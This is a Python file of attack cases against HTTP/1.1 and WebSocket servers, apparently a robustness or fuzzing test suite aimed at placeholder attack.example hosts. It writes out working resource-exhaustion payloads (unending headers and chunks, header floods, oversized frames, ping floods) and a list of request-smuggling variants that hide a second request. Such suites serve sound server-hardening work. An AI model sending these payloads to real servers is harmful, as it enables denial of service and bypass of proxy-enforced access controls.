# HTTP/1.1 (RFC 9112) without an end, or with two.
from wire import *


@attack
def endless_request_line():
    with stream("line.attack.example", 80) as sock:
        push(sock, b"GET /")
        push(sock, b"a" * 65536, 256)
        hear(sock)


@attack
def endless_header():
    with stream("header.attack.example", 80) as sock:
        push(sock, b"GET / HTTP/1.1\r\nX-Endless: ")
        push(sock, b"a" * 65536, 256)
        hear(sock)


@attack
def endless_headers():
    with stream("headers.attack.example", 80) as sock:
        push(sock, b"GET / HTTP/1.1\r\n")
        push(sock, b"".join(b"X-%d: %d\r\n" % (i, i) for i in range(4000)), 200)
        hear(sock)


@attack
def same_header():
    with stream("same.attack.example", 80) as sock:
        push(sock, b"GET / HTTP/1.1\r\n")
        push(sock, b"Cookie: a\r\n" * 6000, 200)
        hear(sock)


@attack
def folded_header():
    with stream("folded.attack.example", 80) as sock:
        push(sock, b"GET / HTTP/1.1\r\nX-Folded: a\r\n")
        push(sock, b" b\r\n" * 16000, 200)
        hear(sock)


@attack
def chunked_without_end():
    with stream("chunked.attack.example", 80) as sock:
        push(sock, head("POST", "/chunked", "Transfer-Encoding: chunked\r\n"))
        push(sock, b"1\r\na\r\n" * 10000, 100)
        hear(sock)


@attack
def chunk_extensions():
    with stream("extension.attack.example", 80) as sock:
        push(sock, head("POST", "/extension", "Transfer-Encoding: chunked\r\n") + b"5;")
        push(sock, b"a=b;" * 16000, 256)
        hear(sock)


@attack
def huge_chunk():
    with stream("chunk.attack.example", 80) as sock:
        push(sock, head("POST", "/chunk", "Transfer-Encoding: chunked\r\n") + b"ffffffffffffffff\r\n")
        push(sock, PIECE, 256)
        hear(sock)


@attack
def smuggling():
    hidden = b"GET /hidden HTTP/1.1\r\nHost: hidden.example\r\n\r\n"
    both = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"
    shapes = [
        head("POST", "/cl-te", both) + b"0\r\n\r\n" + hidden,
        head("POST", "/te-te", "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n") + b"0\r\n\r\n" + hidden,
        head("POST", "/te-space", "Transfer-Encoding : chunked\r\n") + b"0\r\n\r\n" + hidden,
        head("POST", "/te-tab", "Transfer-Encoding:\tchunked\r\n") + b"0\r\n\r\n" + hidden,
        head("POST", "/cl-cl", "Content-Length: 0\r\nContent-Length: 40\r\n") + hidden,
        head("POST", "/cl-minus", "Content-Length: -1\r\n") + hidden,
        head("POST", "/cl-plus", "Content-Length: +5\r\n") + hidden,
        head("POST", "/cl-large", "Content-Length: 99999999999999999999\r\n") + hidden,
        head("GET", "/body", "Content-Length: 5\r\n") + b"hello" + hidden,
        b"GET /bare\nHost: a.example\n\n" + hidden,
        b"GET http://a.example/absolute HTTP/1.1\r\nHost: b.example\r\n\r\n" + hidden,
        b"GET /nul\x00 HTTP/1.1\r\nHost: a\x00b\r\n\r\n" + hidden,
        b"GET / HTTP/9.9\r\n\r\n" + hidden,
        b"\r\n\r\n" + hidden,
    ]
    for shape in shapes:
        with stream("smuggling.attack.example", 80) as sock:
            push(sock, shape)
            sock.shutdown(1)
            hear(sock)


@attack
def pipeline():
    with stream("pipeline.attack.example", 80) as sock:
        push(sock, head() * 1000, 100)
        hear(sock)


@attack
def deaf_client():
    """Asks for programs and never takes one."""
    with stream("deaf.attack.example", 80) as sock:
        push(sock, head("GET", "/tool.tar.gz") * 20, 500)


# --- WebSocket (RFC 6455) ---

UPGRADE = (
    "Upgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
)


def websocket():
    sock = stream("ws.attack.example", 80)
    push(sock, head("GET", "/ws", UPGRADE))
    sock.recv(4096)
    return sock


@attack
def websocket_huge_frame():
    with websocket() as sock:
        push(sock, b"\x82\xff" + (1 << 63).to_bytes(8, "big") + b"mask")
        push(sock, PIECE, 512)


@attack
def websocket_fragments():
    with websocket() as sock:
        push(sock, b"\x02\x81mask\x00")
        push(sock, b"\x00\x81mask\x00" * 8000, 100)


@attack
def websocket_pings():
    with websocket() as sock:
        push(sock, (b"\x89\xfdmask" + bytes(125)) * 500, 200)
